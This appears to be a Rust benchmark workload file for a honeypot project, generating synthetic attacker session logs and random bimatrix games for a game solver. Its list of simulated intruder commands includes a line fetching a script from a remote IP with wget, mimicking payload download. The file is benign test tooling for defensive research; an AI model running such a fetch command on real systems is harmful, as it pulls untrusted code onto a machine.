//! Workloads shared by the benchmarks.

use baitshell_core::log::{SessionEvent, CLOSED, COMMAND_INPUT, CONNECT, LOGIN_SUCCESS};
use baitshell_core::solver::NormalForm;
use chrono::{DateTime, TimeDelta};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

const COMMANDS: [&str; 6] = ["uname -a", "cat /proc/cpuinfo", "cd /tmp", "wget http://198.51.100.7/x.sh", "ls -la", "w"];

/// NDJSON for `sessions` complete sessions with 0 to 40 commands each.
pub fn synthetic_log(sessions: usize, seed: u64) -> Vec<u8> {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let mut out = Vec::new();
    let mut now = DateTime::from_timestamp(1_698_796_800, 0).unwrap();
    for s in 0..sessions {
        let id = format!("{s:012x}");
        let ip = format!("203.0.113.{}", s % 250);
        let instance = ["gamepot", "heliza", "control"][s % 3];
        let mut push = |e: SessionEvent| {
            out.extend_from_slice(e.to_line().as_bytes());
            out.push(b'\n');
        };
        push(SessionEvent::new(CONNECT, &id, &ip, now, instance));
        let mut login = SessionEvent::new(LOGIN_SUCCESS, &id, &ip, now, instance);
        login.username = Some("jmiller".into());
        push(login);
        let start = now;
        for _ in 0..rng.random_range(0..=40) {
            now += TimeDelta::milliseconds(rng.random_range(1_000..10_000));
            let mut e = SessionEvent::new(COMMAND_INPUT, &id, &ip, now, instance);
            e.input = Some(COMMANDS[rng.random_range(0..COMMANDS.len())].into());
            push(e);
        }
        let mut close = SessionEvent::new(CLOSED, &id, &ip, now, instance);
        close.duration = Some((now - start).as_seconds_f64());
        close.reason = Some("client-exit".into());
        push(close);
        now += TimeDelta::seconds(1);
    }
    out
}

/// Bimatrix game with payoffs drawn uniformly from [-5, 5).
pub fn random_game(rows: usize, cols: usize, seed: u64) -> NormalForm {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let mut matrix = || (0..rows).map(|_| (0..cols).map(|_| rng.random_range(-5.0..5.0)).collect()).collect();
    let a = matrix();
    let b = matrix();
    NormalForm::from_matrices(a, b).expect("random payoffs are finite")
}
